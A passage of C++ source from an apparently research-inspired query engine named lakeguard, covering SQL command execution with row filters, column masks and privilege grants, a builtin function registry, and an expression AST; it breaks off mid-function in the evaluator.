  LG_ASSIGN_OR_RETURN(PreparedQuery prepared, PreparePlan(plan, context));
  return ExecutePrepared(std::move(prepared), context);
}

Result<Table> QueryEngine::ExecuteSql(const std::string& sql,
                                      const ExecutionContext& context) {
  LG_ASSIGN_OR_RETURN(ParsedStatement stmt, ParseSql(sql));
  if (auto* select = std::get_if<SelectStatement>(&stmt)) {
    return ExecutePlan(select->plan, context);
  }
  return RunCommand(stmt, context);
}

Result<QueryResultStreamPtr> QueryEngine::ExecuteSqlStreaming(
    const std::string& sql, const ExecutionContext& context) {
  LG_ASSIGN_OR_RETURN(PreparedQuery prepared, PrepareSql(sql, context));
  return ExecutePrepared(std::move(prepared), context);
}

Result<Table> QueryEngine::RunCommand(const ParsedStatement& stmt,
                                      const ExecutionContext& context) {
  if (const auto* create = std::get_if<CreateTableStatement>(&stmt)) {
    TableInfo info;
    info.full_name = create->name;
    info.schema = create->schema;
    LG_RETURN_IF_ERROR(services_.catalog->CreateTable(context.user, info));
    // Initialize version 0 (empty) so reads work immediately.
    LG_ASSIGN_OR_RETURN(TableInfo created,
                        services_.catalog->GetTable(create->name));
    LG_ASSIGN_OR_RETURN(StorageCredential cred,
                        services_.catalog->VendWriteCredential(
                            context.user, context.compute, create->name));
    DeltaTableFormat format(services_.store);
    LG_RETURN_IF_ERROR(format.CreateTable(cred.token_id, created.storage_root,
                                          Table(created.schema)));
    return CommandResult("created table " + create->name);
  }

  if (const auto* view = std::get_if<CreateViewStatement>(&stmt)) {
    // Validate the definition under the creating user: every referenced
    // relation must exist and be selectable by the definer.
    Analyzer analyzer(services_.catalog, context, services_.extensions);
    auto check = analyzer.Analyze(view->plan);
    if (!check.ok()) {
      return check.status().WithContext("invalid view definition");
    }
    if (view->temporary) {
      // Session state (§3.2.3): never touches the catalog.
      if (context.temp_views == nullptr) {
        return Status::FailedPrecondition(
            "temporary views require a session (none attached)");
      }
      (*context.temp_views)[view->name] = view->sql_text;
      return CommandResult("created temporary view " + view->name);
    }
    ViewInfo info;
    info.full_name = view->name;
    info.sql_text = view->sql_text;
    info.materialized = view->materialized;
    LG_RETURN_IF_ERROR(services_.catalog->CreateView(context.user, info));
    if (view->materialized) {
      LG_RETURN_IF_ERROR(RefreshMaterializedView(view->name, context));
    }
    return CommandResult("created view " + view->name);
  }

  if (const auto* insert = std::get_if<InsertStatement>(&stmt)) {
    LG_ASSIGN_OR_RETURN(TableInfo info,
                        services_.catalog->GetTable(insert->table));
    LG_ASSIGN_OR_RETURN(StorageCredential cred,
                        services_.catalog->VendWriteCredential(
                            context.user, context.compute, insert->table));
    TableBuilder builder(info.schema);
    size_t inserted = 0;
    if (insert->query) {
      // INSERT INTO ... SELECT: the source runs through the full governed
      // pipeline (row filters etc. apply to what this user can read).
      LG_ASSIGN_OR_RETURN(Table source, ExecutePlan(insert->query, context));
      if (source.schema().num_fields() != info.schema.num_fields()) {
        return Status::InvalidArgument(
            "INSERT source has " +
            std::to_string(source.schema().num_fields()) +
            " columns, table expects " +
            std::to_string(info.schema.num_fields()));
      }
      LG_ASSIGN_OR_RETURN(RecordBatch rows, source.Combine());
      for (size_t r = 0; r < rows.num_rows(); ++r) {
        LG_RETURN_IF_ERROR(builder.AppendRow(rows.Row(r)));
      }
      inserted = rows.num_rows();
    } else {
      for (const std::vector<Value>& row : insert->rows) {
        LG_RETURN_IF_ERROR(builder.AppendRow(row));
      }
      inserted = insert->rows.size();
    }
    DeltaTableFormat format(services_.store);
    LG_RETURN_IF_ERROR(format.AppendToTable(cred.token_id, info.storage_root,
                                            builder.Build()));
    services_.catalog->audit().Record(
        context.user, context.compute.compute_id, "INSERT", insert->table,
        true, std::to_string(inserted) + " rows");
    return CommandResult("inserted " + std::to_string(inserted) +
                         " rows into " + insert->table);
  }

  if (const auto* grant = std::get_if<GrantStatement>(&stmt)) {
    LG_ASSIGN_OR_RETURN(Privilege privilege,
                        PrivilegeFromName(grant->privilege));
    if (grant->revoke) {
      LG_RETURN_IF_ERROR(services_.catalog->Revoke(
          context.user, grant->securable, privilege, grant->principal));
      return CommandResult("revoked " + grant->privilege + " on " +
                           grant->securable + " from " + grant->principal);
    }
    LG_RETURN_IF_ERROR(services_.catalog->Grant(
        context.user, grant->securable, privilege, grant->principal));
    return CommandResult("granted " + grant->privilege + " on " +
                         grant->securable + " to " + grant->principal);
  }

  if (const auto* alter = std::get_if<AlterPolicyStatement>(&stmt)) {
    switch (alter->action) {
      case AlterPolicyStatement::Action::kSetRowFilter: {
        RowFilterPolicy policy;
        policy.predicate = alter->expr;
        LG_RETURN_IF_ERROR(services_.catalog->SetRowFilter(
            context.user, alter->table, std::move(policy)));
        return CommandResult("set row filter on " + alter->table);
      }
      case AlterPolicyStatement::Action::kDropRowFilter:
        LG_RETURN_IF_ERROR(
            services_.catalog->ClearRowFilter(context.user, alter->table));
        return CommandResult("dropped row filter on " + alter->table);
      case AlterPolicyStatement::Action::kSetColumnMask: {
        ColumnMaskPolicy policy;
        policy.column = alter->column;
        policy.mask_expr = alter->expr;
        LG_RETURN_IF_ERROR(services_.catalog->AddColumnMask(
            context.user, alter->table, std::move(policy)));
        return CommandResult("set mask on " + alter->table + "." +
                             alter->column);
      }
      case AlterPolicyStatement::Action::kDropColumnMask:
        LG_RETURN_IF_ERROR(
            services_.catalog->ClearColumnMasks(context.user, alter->table));
        return CommandResult("dropped masks on " + alter->table);
    }
  }

  if (const auto* drop = std::get_if<DropTableStatement>(&stmt)) {
    if (drop->is_view) {
      if (context.temp_views != nullptr &&
          context.temp_views->erase(drop->name) > 0) {
        return CommandResult("dropped temporary view " + drop->name);
      }
      return Status::NotFound("no temporary view named " + drop->name +
                              " in this session");
    }
    LG_RETURN_IF_ERROR(services_.catalog->DropTable(context.user, drop->name));
    return CommandResult("dropped table " + drop->name);
  }

  if (const auto* refresh = std::get_if<RefreshStatement>(&stmt)) {
    LG_RETURN_IF_ERROR(RefreshMaterializedView(refresh->view, context));
    return CommandResult("refreshed " + refresh->view);
  }

  return Status::Unimplemented("unsupported statement type");
}

Status QueryEngine::RefreshMaterializedView(const std::string& view_name,
                                            const ExecutionContext& context) {
  LG_ASSIGN_OR_RETURN(ViewInfo view, services_.catalog->GetView(view_name));
  if (!view.materialized) {
    return Status::FailedPrecondition("view '" + view_name +
                                      "' is not materialized");
  }
  // The refresh pipeline runs on trusted compute as the view owner.
  LG_ASSIGN_OR_RETURN(ParsedStatement stmt, ParseSql(view.sql_text));
  auto* select = std::get_if<SelectStatement>(&stmt);
  if (select == nullptr) {
    return Status::Internal("materialized view definition is not a SELECT");
  }
  ExecutionContext refresh_context;
  refresh_context.user = view.owner;
  refresh_context.session_id = context.session_id + "-mv-refresh";
  refresh_context.compute.compute_id = "mv-refresh";
  refresh_context.compute.can_isolate_user_code = true;
  refresh_context.compute.privileged_access = false;
  LG_ASSIGN_OR_RETURN(Table data,
                      ExecutePlan(select->plan, refresh_context));

  // Materialized data is managed by the control plane.
  DeltaTableFormat format(services_.store);
  std::string root = view.storage_root + "/v" +
                     std::to_string(IdGenerator::NextInt());
  LG_RETURN_IF_ERROR(format.CreateTable(services_.catalog->system_token(),
                                        root, data));
  return services_.catalog->SetMaterializationState(view_name, true, root,
                                                    data.schema());
}

}  // namespace lakeguard
