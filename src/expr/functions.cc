#include "expr/functions.h"

#include <algorithm>
#include <cmath>
#include <map>

#include "common/sha256.h"
#include "common/strings.h"
#include "expr/evaluator.h"

namespace lakeguard {

namespace {

Result<TypeKind> InferString(const std::vector<TypeKind>&) {
  return TypeKind::kString;
}
Result<TypeKind> InferInt(const std::vector<TypeKind>&) {
  return TypeKind::kInt64;
}
Result<TypeKind> InferDouble(const std::vector<TypeKind>&) {
  return TypeKind::kFloat64;
}
Result<TypeKind> InferBool(const std::vector<TypeKind>&) {
  return TypeKind::kBool;
}
Result<TypeKind> InferFirstArg(const std::vector<TypeKind>& args) {
  for (TypeKind t : args) {
    if (t != TypeKind::kNull) return t;
  }
  return TypeKind::kNull;
}
Result<TypeKind> InferNumericWiden(const std::vector<TypeKind>& args) {
  for (TypeKind t : args) {
    if (t == TypeKind::kFloat64) return TypeKind::kFloat64;
  }
  return TypeKind::kInt64;
}

bool AnyNull(const std::vector<Value>& args) {
  for (const Value& v : args) {
    if (v.is_null()) return true;
  }
  return false;
}

/// Builds the registry once. Names are stored uppercase.
const std::map<std::string, BuiltinFunction>& Registry() {
  static const std::map<std::string, BuiltinFunction>* const kRegistry = [] {
    auto* reg = new std::map<std::string, BuiltinFunction>();
    auto add = [reg](BuiltinFunction fn) { (*reg)[fn.name] = std::move(fn); };

    add({"UPPER", 1, 1, InferString,
         [](const std::vector<Value>& a, const EvalContext&) -> Result<Value> {
           if (AnyNull(a)) return Value::Null();
           return Value::String(ToUpperAscii(a[0].ToString()));
         }});
    add({"LOWER", 1, 1, InferString,
         [](const std::vector<Value>& a, const EvalContext&) -> Result<Value> {
           if (AnyNull(a)) return Value::Null();
           return Value::String(ToLowerAscii(a[0].ToString()));
         }});
    add({"LENGTH", 1, 1, InferInt,
         [](const std::vector<Value>& a, const EvalContext&) -> Result<Value> {
           if (AnyNull(a)) return Value::Null();
           if (!a[0].is_string() && !a[0].is_binary()) {
             return Value::Int(
                 static_cast<int64_t>(a[0].ToString().size()));
           }
           return Value::Int(static_cast<int64_t>(a[0].string_value().size()));
         }});
    add({"CONCAT", 1, 64, InferString,
         [](const std::vector<Value>& a, const EvalContext&) -> Result<Value> {
           std::string out;
           for (const Value& v : a) {
             if (v.is_null()) return Value::Null();
             out += v.is_string() ? v.string_value() : v.ToString();
           }
           return Value::String(std::move(out));
         }});
    add({"SUBSTRING", 2, 3, InferString,
         [](const std::vector<Value>& a, const EvalContext&) -> Result<Value> {
           if (AnyNull(a)) return Value::Null();
           const std::string& s =
               a[0].is_string() ? a[0].string_value() : a[0].ToString();
           LG_ASSIGN_OR_RETURN(int64_t start, a[1].AsInt());
           // SQL SUBSTRING is 1-based.
           int64_t begin = std::max<int64_t>(start - 1, 0);
           if (begin >= static_cast<int64_t>(s.size())) {
             return Value::String("");
           }
           int64_t len = static_cast<int64_t>(s.size()) - begin;
           if (a.size() == 3) {
             LG_ASSIGN_OR_RETURN(int64_t want, a[2].AsInt());
             len = std::min(len, std::max<int64_t>(want, 0));
           }
           return Value::String(s.substr(static_cast<size_t>(begin),
                                         static_cast<size_t>(len)));
         }});
    add({"TRIM", 1, 1, InferString,
         [](const std::vector<Value>& a, const EvalContext&) -> Result<Value> {
           if (AnyNull(a)) return Value::Null();
           const std::string& s = a[0].string_value();
           size_t b = s.find_first_not_of(' ');
           if (b == std::string::npos) return Value::String("");
           size_t e = s.find_last_not_of(' ');
           return Value::String(s.substr(b, e - b + 1));
         }});
    add({"REPLACE", 3, 3, InferString,
         [](const std::vector<Value>& a, const EvalContext&) -> Result<Value> {
           if (AnyNull(a)) return Value::Null();
           std::string s = a[0].string_value();
           const std::string& from = a[1].string_value();
           const std::string& to = a[2].string_value();
           if (from.empty()) return Value::String(std::move(s));
           std::string out;
           size_t pos = 0;
           while (true) {
             size_t hit = s.find(from, pos);
             if (hit == std::string::npos) {
               out += s.substr(pos);
               break;
             }
             out += s.substr(pos, hit - pos);
             out += to;
             pos = hit + from.size();
           }
           return Value::String(std::move(out));
         }});
    add({"ABS", 1, 1, InferNumericWiden,
         [](const std::vector<Value>& a, const EvalContext&) -> Result<Value> {
           if (AnyNull(a)) return Value::Null();
           if (a[0].is_int()) return Value::Int(std::llabs(a[0].int_value()));
           LG_ASSIGN_OR_RETURN(double d, a[0].AsDouble());
           return Value::Double(std::fabs(d));
         }});
    add({"ROUND", 1, 2, InferDouble,
         [](const std::vector<Value>& a, const EvalContext&) -> Result<Value> {
           if (AnyNull(a)) return Value::Null();
           LG_ASSIGN_OR_RETURN(double d, a[0].AsDouble());
           int64_t digits = 0;
           if (a.size() == 2) {
             LG_ASSIGN_OR_RETURN(digits, a[1].AsInt());
           }
           double scale = std::pow(10.0, static_cast<double>(digits));
           return Value::Double(std::round(d * scale) / scale);
         }});
    add({"FLOOR", 1, 1, InferInt,
         [](const std::vector<Value>& a, const EvalContext&) -> Result<Value> {
           if (AnyNull(a)) return Value::Null();
           LG_ASSIGN_OR_RETURN(double d, a[0].AsDouble());
           return Value::Int(static_cast<int64_t>(std::floor(d)));
         }});
    add({"CEIL", 1, 1, InferInt,
         [](const std::vector<Value>& a, const EvalContext&) -> Result<Value> {
           if (AnyNull(a)) return Value::Null();
           LG_ASSIGN_OR_RETURN(double d, a[0].AsDouble());
           return Value::Int(static_cast<int64_t>(std::ceil(d)));
         }});
    add({"SQRT", 1, 1, InferDouble,
         [](const std::vector<Value>& a, const EvalContext&) -> Result<Value> {
           if (AnyNull(a)) return Value::Null();
           LG_ASSIGN_OR_RETURN(double d, a[0].AsDouble());
           if (d < 0) return Status::InvalidArgument("SQRT of negative value");
           return Value::Double(std::sqrt(d));
         }});
    add({"POW", 2, 2, InferDouble,
         [](const std::vector<Value>& a, const EvalContext&) -> Result<Value> {
           if (AnyNull(a)) return Value::Null();
           LG_ASSIGN_OR_RETURN(double base, a[0].AsDouble());
           LG_ASSIGN_OR_RETURN(double exp, a[1].AsDouble());
           return Value::Double(std::pow(base, exp));
         }});
    add({"GREATEST", 2, 64, InferFirstArg,
         [](const std::vector<Value>& a, const EvalContext&) -> Result<Value> {
           if (AnyNull(a)) return Value::Null();
           Value best = a[0];
           for (size_t i = 1; i < a.size(); ++i) {
             if (a[i].Compare(best) > 0) best = a[i];
           }
           return best;
         }});
    add({"LEAST", 2, 64, InferFirstArg,
         [](const std::vector<Value>& a, const EvalContext&) -> Result<Value> {
           if (AnyNull(a)) return Value::Null();
           Value best = a[0];
           for (size_t i = 1; i < a.size(); ++i) {
             if (a[i].Compare(best) < 0) best = a[i];
           }
           return best;
         }});
    add({"COALESCE", 1, 64, InferFirstArg,
         [](const std::vector<Value>& a, const EvalContext&) -> Result<Value> {
           for (const Value& v : a) {
             if (!v.is_null()) return v;
           }
           return Value::Null();
         }});
    add({"NULLIF", 2, 2, InferFirstArg,
         [](const std::vector<Value>& a, const EvalContext&) -> Result<Value> {
           if (a[0].is_null()) return Value::Null();
           if (!a[1].is_null() && a[0].SqlEquals(a[1])) return Value::Null();
           return a[0];
         }});
    add({"IF", 3, 3,
         [](const std::vector<TypeKind>& args) -> Result<TypeKind> {
           if (args[1] != TypeKind::kNull) return args[1];
           return args[2];
         },
         [](const std::vector<Value>& a, const EvalContext&) -> Result<Value> {
           if (a[0].is_null()) return a[2];
           if (!a[0].is_bool()) {
             return Status::InvalidArgument("IF condition must be BOOLEAN");
           }
           return a[0].bool_value() ? a[1] : a[2];
         }});
    add({"IFNULL", 2, 2, InferFirstArg,
         [](const std::vector<Value>& a, const EvalContext&) -> Result<Value> {
           return a[0].is_null() ? a[1] : a[0];
         }});
    // SHA2(expr [, bits]) — only 256 supported, matching the paper's UDF
    // workload; returns the hex digest.
    add({"SHA2", 1, 2, InferString,
         [](const std::vector<Value>& a, const EvalContext&) -> Result<Value> {
           if (a[0].is_null()) return Value::Null();
           if (a.size() == 2) {
             LG_ASSIGN_OR_RETURN(int64_t bits, a[1].AsInt());
             if (bits != 256) {
               return Status::InvalidArgument("SHA2 supports only 256 bits");
             }
           }
           const std::string payload =
               (a[0].is_string() || a[0].is_binary()) ? a[0].string_value()
                                                      : a[0].ToString();
           return Value::String(Sha256::HexDigest(payload));
         }});
    add({"HASH", 1, 1, InferInt,
         [](const std::vector<Value>& a, const EvalContext&) -> Result<Value> {
           if (AnyNull(a)) return Value::Null();
           return Value::Int(static_cast<int64_t>(a[0].Hash()));
         }});
    // MASK(s): keeps the last 4 characters, masks the rest — the stock
    // column-mask helper used in examples and tests (cf. Fig. 3 cell-level
    // masking of PII columns).
    add({"MASK", 1, 1, InferString,
         [](const std::vector<Value>& a, const EvalContext&) -> Result<Value> {
           if (AnyNull(a)) return Value::Null();
           const std::string& s = a[0].is_string() ? a[0].string_value()
                                                   : a[0].ToString();
           if (s.size() <= 4) return Value::String(std::string(s.size(), '*'));
           return Value::String(std::string(s.size() - 4, '*') +
                                s.substr(s.size() - 4));
         }});
    add({"REDACT", 1, 1, InferString,
         [](const std::vector<Value>& a, const EvalContext&) -> Result<Value> {
           (void)a;
           return Value::String("[REDACTED]");
         }});
    add({"CURRENT_USER", 0, 0, InferString,
         [](const std::vector<Value>&, const EvalContext& ctx)
             -> Result<Value> { return Value::String(ctx.current_user); }});
    add({"USER_ATTRIBUTE", 1, 1, InferString,
         [](const std::vector<Value>& a, const EvalContext& ctx)
             -> Result<Value> {
           if (AnyNull(a)) return Value::Null();
           if (!ctx.user_attribute) return Value::Null();
           std::string v =
               ctx.user_attribute(ctx.current_user, a[0].string_value());
           if (v.empty()) return Value::Null();
           return Value::String(std::move(v));
         }});
    add({"IS_ACCOUNT_GROUP_MEMBER", 1, 1, InferBool,
         [](const std::vector<Value>& a, const EvalContext& ctx)
             -> Result<Value> {
           if (AnyNull(a)) return Value::Null();
           if (!ctx.is_group_member) return Value::Bool(false);
           return Value::Bool(
               ctx.is_group_member(ctx.current_user, a[0].string_value()));
         }});

    // Aliases.
    (*reg)["LEN"] = (*reg)["LENGTH"];
    (*reg)["IS_MEMBER"] = (*reg)["IS_ACCOUNT_GROUP_MEMBER"];
    (*reg)["SHA256"] = (*reg)["SHA2"];
    return reg;
  }();
  return *kRegistry;
}

}  // namespace

Result<const BuiltinFunction*> LookupBuiltin(const std::string& name) {
  const auto& reg = Registry();
  auto it = reg.find(ToUpperAscii(name));
  if (it == reg.end()) {
    return Status::NotFound("no builtin function named " + name);
  }
  return &it->second;
}

bool IsAggregateFunctionName(const std::string& name) {
  std::string up = ToUpperAscii(name);
  return up == "SUM" || up == "COUNT" || up == "AVG" || up == "MIN" ||
         up == "MAX";
}

std::vector<std::string> BuiltinFunctionNames() {
  std::vector<std::string> out;
  for (const auto& [name, fn] : Registry()) {
    out.push_back(name);
  }
  return out;
}

}  // namespace lakeguard
