#ifndef LAKEGUARD_EXPR_EXPR_H_
#define LAKEGUARD_EXPR_EXPR_H_

#include <functional>
#include <memory>
#include <string>
#include <vector>

#include "columnar/types.h"
#include "columnar/value.h"
#include "common/status.h"

namespace lakeguard {

class Expr;
/// Expressions are immutable and shared; plan rewrites share subtrees.
using ExprPtr = std::shared_ptr<const Expr>;

enum class ExprKind : uint8_t {
  kLiteral = 0,
  kColumnRef = 1,
  kBinaryOp = 2,
  kUnaryOp = 3,
  kFunctionCall = 4,
  kCast = 5,
  kCase = 6,
  kIn = 7,
  kIsNull = 8,
  kLike = 9,
  kUdfCall = 10,
  kFusedPolicy = 11,
};

enum class BinaryOpKind : uint8_t {
  kAdd = 0,
  kSub = 1,
  kMul = 2,
  kDiv = 3,
  kMod = 4,
  kEq = 5,
  kNe = 6,
  kLt = 7,
  kLe = 8,
  kGt = 9,
  kGe = 10,
  kAnd = 11,
  kOr = 12,
};

enum class UnaryOpKind : uint8_t {
  kNot = 0,
  kNegate = 1,
};

const char* BinaryOpName(BinaryOpKind op);
const char* UnaryOpName(UnaryOpKind op);

/// Base of the expression AST. Construction goes through the factory
/// functions below; nodes are immutable after construction.
///
/// Design note: this mirrors Spark Connect's `Expression` protobuf — the
/// client and the SQL frontend both build *unresolved* expressions
/// (ColumnRef by name); the analyzer resolves names against the input schema
/// and records ordinal indices.
class Expr {
 public:
  virtual ~Expr() = default;
  ExprKind kind() const { return kind_; }

  /// SQL-ish rendering used by plan printing (Fig. 8 reproductions).
  virtual std::string ToString() const = 0;

  /// Deep structural equality.
  virtual bool Equals(const Expr& other) const = 0;

  /// Child expressions, for generic traversal.
  virtual std::vector<ExprPtr> children() const = 0;

 protected:
  explicit Expr(ExprKind kind) : kind_(kind) {}

 private:
  ExprKind kind_;
};

/// Constant value.
class LiteralExpr : public Expr {
 public:
  explicit LiteralExpr(Value value)
      : Expr(ExprKind::kLiteral), value_(std::move(value)) {}
  const Value& value() const { return value_; }

  std::string ToString() const override;
  bool Equals(const Expr& other) const override;
  std::vector<ExprPtr> children() const override { return {}; }

 private:
  Value value_;
};

/// Column reference. `index() < 0` means unresolved (by-name only);
/// the analyzer produces copies with the ordinal filled in.
class ColumnRefExpr : public Expr {
 public:
  explicit ColumnRefExpr(std::string name, int index = -1)
      : Expr(ExprKind::kColumnRef), name_(std::move(name)), index_(index) {}
  const std::string& name() const { return name_; }
  int index() const { return index_; }
  bool resolved() const { return index_ >= 0; }

  std::string ToString() const override;
  bool Equals(const Expr& other) const override;
  std::vector<ExprPtr> children() const override { return {}; }

 private:
  std::string name_;
  int index_;
};

class BinaryOpExpr : public Expr {
 public:
  BinaryOpExpr(BinaryOpKind op, ExprPtr left, ExprPtr right)
      : Expr(ExprKind::kBinaryOp),
        op_(op),
        left_(std::move(left)),
        right_(std::move(right)) {}
  BinaryOpKind op() const { return op_; }
  const ExprPtr& left() const { return left_; }
  const ExprPtr& right() const { return right_; }

  std::string ToString() const override;
  bool Equals(const Expr& other) const override;
  std::vector<ExprPtr> children() const override { return {left_, right_}; }

 private:
  BinaryOpKind op_;
  ExprPtr left_;
  ExprPtr right_;
};

class UnaryOpExpr : public Expr {
 public:
  UnaryOpExpr(UnaryOpKind op, ExprPtr child)
      : Expr(ExprKind::kUnaryOp), op_(op), child_(std::move(child)) {}
  UnaryOpKind op() const { return op_; }
  const ExprPtr& child() const { return child_; }

  std::string ToString() const override;
  bool Equals(const Expr& other) const override;
  std::vector<ExprPtr> children() const override { return {child_}; }

 private:
  UnaryOpKind op_;
  ExprPtr child_;
};

/// Builtin scalar function call (UPPER, CONCAT, SHA2, CURRENT_USER, ...).
/// Aggregate function names (SUM/COUNT/AVG/MIN/MAX) also parse into this
/// node; the analyzer lifts them into Aggregate plan nodes.
class FunctionCallExpr : public Expr {
 public:
  FunctionCallExpr(std::string name, std::vector<ExprPtr> args)
      : Expr(ExprKind::kFunctionCall),
        name_(std::move(name)),
        args_(std::move(args)) {}
  const std::string& name() const { return name_; }
  const std::vector<ExprPtr>& args() const { return args_; }

  std::string ToString() const override;
  bool Equals(const Expr& other) const override;
  std::vector<ExprPtr> children() const override { return args_; }

 private:
  std::string name_;
  std::vector<ExprPtr> args_;
};

class CastExpr : public Expr {
 public:
  CastExpr(ExprPtr child, TypeKind target)
      : Expr(ExprKind::kCast), child_(std::move(child)), target_(target) {}
  const ExprPtr& child() const { return child_; }
  TypeKind target() const { return target_; }

  std::string ToString() const override;
  bool Equals(const Expr& other) const override;
  std::vector<ExprPtr> children() const override { return {child_}; }

 private:
  ExprPtr child_;
  TypeKind target_;
};

/// CASE WHEN c1 THEN v1 [WHEN c2 THEN v2 ...] [ELSE e] END
class CaseExpr : public Expr {
 public:
  struct Branch {
    ExprPtr condition;
    ExprPtr value;
  };
  CaseExpr(std::vector<Branch> branches, ExprPtr else_value)
      : Expr(ExprKind::kCase),
        branches_(std::move(branches)),
        else_value_(std::move(else_value)) {}
  const std::vector<Branch>& branches() const { return branches_; }
  const ExprPtr& else_value() const { return else_value_; }  // may be null

  std::string ToString() const override;
  bool Equals(const Expr& other) const override;
  std::vector<ExprPtr> children() const override;

 private:
  std::vector<Branch> branches_;
  ExprPtr else_value_;
};

/// `child IN (v1, v2, ...)` over literal lists.
class InExpr : public Expr {
 public:
  InExpr(ExprPtr child, std::vector<Value> list, bool negated)
      : Expr(ExprKind::kIn),
        child_(std::move(child)),
        list_(std::move(list)),
        negated_(negated) {}
  const ExprPtr& child() const { return child_; }
  const std::vector<Value>& list() const { return list_; }
  bool negated() const { return negated_; }

  std::string ToString() const override;
  bool Equals(const Expr& other) const override;
  std::vector<ExprPtr> children() const override { return {child_}; }

 private:
  ExprPtr child_;
  std::vector<Value> list_;
  bool negated_;
};

class IsNullExpr : public Expr {
 public:
  IsNullExpr(ExprPtr child, bool negated)
      : Expr(ExprKind::kIsNull), child_(std::move(child)), negated_(negated) {}
  const ExprPtr& child() const { return child_; }
  bool negated() const { return negated_; }

  std::string ToString() const override;
  bool Equals(const Expr& other) const override;
  std::vector<ExprPtr> children() const override { return {child_}; }

 private:
  ExprPtr child_;
  bool negated_;
};

/// SQL LIKE with % and _ wildcards.
class LikeExpr : public Expr {
 public:
  LikeExpr(ExprPtr child, std::string pattern, bool negated)
      : Expr(ExprKind::kLike),
        child_(std::move(child)),
        pattern_(std::move(pattern)),
        negated_(negated) {}
  const ExprPtr& child() const { return child_; }
  const std::string& pattern() const { return pattern_; }
  bool negated() const { return negated_; }

  std::string ToString() const override;
  bool Equals(const Expr& other) const override;
  std::vector<ExprPtr> children() const override { return {child_}; }

 private:
  ExprPtr child_;
  std::string pattern_;
  bool negated_;
};

/// Call of a *cataloged or session* user-defined function. UDF bodies are
/// untrusted user code: they never run inside the engine. The physical
/// UDF operator routes evaluation through the sandbox dispatcher, and
/// `owner()` names the trust domain the paper's fusion rules must respect.
class UdfCallExpr : public Expr {
 public:
  UdfCallExpr(std::string function_name, std::string owner,
              TypeKind return_type, std::vector<ExprPtr> args)
      : Expr(ExprKind::kUdfCall),
        function_name_(std::move(function_name)),
        owner_(std::move(owner)),
        return_type_(return_type),
        args_(std::move(args)) {}
  const std::string& function_name() const { return function_name_; }
  const std::string& owner() const { return owner_; }
  TypeKind return_type() const { return return_type_; }
  const std::vector<ExprPtr>& args() const { return args_; }

  std::string ToString() const override;
  bool Equals(const Expr& other) const override;
  std::vector<ExprPtr> children() const override { return args_; }

 private:
  std::string function_name_;
  std::string owner_;
  TypeKind return_type_;
  std::vector<ExprPtr> args_;
};

/// Analyzer-emitted annotation marking a subtree as a *policy* expression
/// (row-filter predicate or column mask) injected during FGAC rewrite, as
/// opposed to user-authored query text. Semantically transparent: every
/// evaluation and type-inference path sees straight through to the child.
/// The executor uses the marker to recognize fusable policy regions and
/// compile them into cached scan evaluators; the PlanVerifier strips it
/// before structural comparison against catalog policies.
class FusedPolicyExpr : public Expr {
 public:
  explicit FusedPolicyExpr(ExprPtr child)
      : Expr(ExprKind::kFusedPolicy), child_(std::move(child)) {}
  const ExprPtr& child() const { return child_; }

  std::string ToString() const override;
  bool Equals(const Expr& other) const override;
  std::vector<ExprPtr> children() const override { return {child_}; }

 private:
  ExprPtr child_;
};

// ---- Factory helpers -------------------------------------------------------

ExprPtr Lit(Value v);
ExprPtr LitInt(int64_t v);
ExprPtr LitDouble(double v);
ExprPtr LitString(std::string v);
ExprPtr LitBool(bool v);
ExprPtr LitNull();
ExprPtr Col(std::string name);
ExprPtr ColIdx(std::string name, int index);
ExprPtr BinOp(BinaryOpKind op, ExprPtr l, ExprPtr r);
ExprPtr Eq(ExprPtr l, ExprPtr r);
ExprPtr And(ExprPtr l, ExprPtr r);
ExprPtr Or(ExprPtr l, ExprPtr r);
ExprPtr Not(ExprPtr e);
ExprPtr Func(std::string name, std::vector<ExprPtr> args);
ExprPtr CastTo(ExprPtr e, TypeKind target);
ExprPtr Udf(std::string name, std::string owner, TypeKind return_type,
            std::vector<ExprPtr> args);
ExprPtr FusedPolicy(ExprPtr child);

// ---- Traversal utilities ---------------------------------------------------

/// Appends the names of all (unresolved or resolved) column refs in `expr`.
void CollectColumnRefs(const ExprPtr& expr, std::vector<std::string>* out);

/// Rewrites `expr` bottom-up with `fn`; `fn` returns nullptr to keep a node
/// (with possibly-rewritten children) or a replacement node.
ExprPtr RewriteExpr(const ExprPtr& expr,
                    const std::function<ExprPtr(const ExprPtr&)>& fn);

/// True if any node in `expr` satisfies `pred`.
bool ExprContains(const ExprPtr& expr,
                  const std::function<bool(const Expr&)>& pred);

/// True if `expr` contains a UdfCall anywhere.
bool ContainsUdfCall(const ExprPtr& expr);

/// Removes every FusedPolicyExpr wrapper in `expr`, returning the bare
/// tree. Identity (same pointer) when no markers are present.
ExprPtr StripFusedPolicyMarkers(const ExprPtr& expr);

}  // namespace lakeguard

#endif  // LAKEGUARD_EXPR_EXPR_H_
