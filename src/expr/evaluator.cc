#include "expr/evaluator.h"

#include <cmath>

#include "common/strings.h"
#include "expr/functions.h"

namespace lakeguard {

namespace {

// ---- Type inference --------------------------------------------------------

Result<TypeKind> InferBinaryType(const BinaryOpExpr& e, const Schema& input) {
  LG_ASSIGN_OR_RETURN(TypeKind lt, InferExprType(e.left(), input));
  LG_ASSIGN_OR_RETURN(TypeKind rt, InferExprType(e.right(), input));
  switch (e.op()) {
    case BinaryOpKind::kAdd:
    case BinaryOpKind::kSub:
    case BinaryOpKind::kMul:
    case BinaryOpKind::kMod:
      if (lt == TypeKind::kFloat64 || rt == TypeKind::kFloat64) {
        return TypeKind::kFloat64;
      }
      if (e.op() == BinaryOpKind::kAdd &&
          (lt == TypeKind::kString || rt == TypeKind::kString)) {
        return TypeKind::kString;  // string concatenation via '+'
      }
      return TypeKind::kInt64;
    case BinaryOpKind::kDiv:
      return TypeKind::kFloat64;  // Spark semantics: '/' is always fractional
    case BinaryOpKind::kEq:
    case BinaryOpKind::kNe:
    case BinaryOpKind::kLt:
    case BinaryOpKind::kLe:
    case BinaryOpKind::kGt:
    case BinaryOpKind::kGe:
    case BinaryOpKind::kAnd:
    case BinaryOpKind::kOr:
      return TypeKind::kBool;
  }
  return Status::Internal("unreachable binary op");
}

}  // namespace

// ---- Row-wise value combination --------------------------------------------

Result<Value> EvalBinaryScalar(BinaryOpKind op, const Value& l,
                               const Value& r) {
  // Three-valued logic for AND/OR must look at nulls specially.
  if (op == BinaryOpKind::kAnd) {
    if (!l.is_null() && l.is_bool() && !l.bool_value()) {
      return Value::Bool(false);
    }
    if (!r.is_null() && r.is_bool() && !r.bool_value()) {
      return Value::Bool(false);
    }
    if (l.is_null() || r.is_null()) return Value::Null();
    if (!l.is_bool() || !r.is_bool()) {
